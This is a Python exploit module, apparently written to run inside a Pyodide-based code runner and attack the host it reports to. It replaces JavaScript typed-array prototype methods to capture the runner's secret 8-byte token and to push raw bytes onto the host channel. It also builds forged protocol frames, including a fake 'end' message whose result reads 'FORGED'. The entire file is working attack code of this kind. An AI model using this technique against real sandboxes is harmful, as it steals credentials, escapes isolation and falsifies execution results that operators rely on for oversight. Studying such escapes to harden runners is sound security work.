"""Speaks to the host in the runner's own words: takes its token and its way to the pipe by putting other functions in the
place of those that it calls. Needs no JavaScript, only one array of it. Put before the attacks that forge with a token."""

import json
import os
import struct

from pyodide.ffi import to_js

PIECE = 65_000


def _array_prototype():
    return to_js(b"x").constructor.prototype


def steal_token():
    """The runner's token. Raises when the functions cannot be replaced any more."""
    prototype, held = _array_prototype(), to_js([])
    print("before")
    prototype.set = held.push.bind(held)
    try:
        print("during")
    finally:
        del prototype.set
    for value in held:
        if getattr(value, "length", 0) == 8:
            return bytes(value.to_py())
    raise LookupError("no token was seen")


def send_raw(data):
    """Bytes to the host in place of what the runner would send, in pieces that its buffers hold."""
    prototype, place = _array_prototype(), to_js([None])
    pieces = [to_js(data[at : at + PIECE]) for at in range(0, len(data), PIECE)]
    prototype.subarray = place.at.bind(place, 0)
    try:
        for piece in pieces:
            place[0] = piece
            os.write(1, b"-")
    finally:
        del prototype.subarray


def frame(token, kind, payload):
    return bytes([kind]) + struct.pack("<I", len(payload)) + token + payload


def end_message(**changes):
    message = {"type": "end", "run": 1, "result": "FORGED", "error": None}
    flags = {"stdoutCut": False, "stderrCut": False, "resultCut": False}
    return json.dumps({**message, **flags, **changes}).encode()
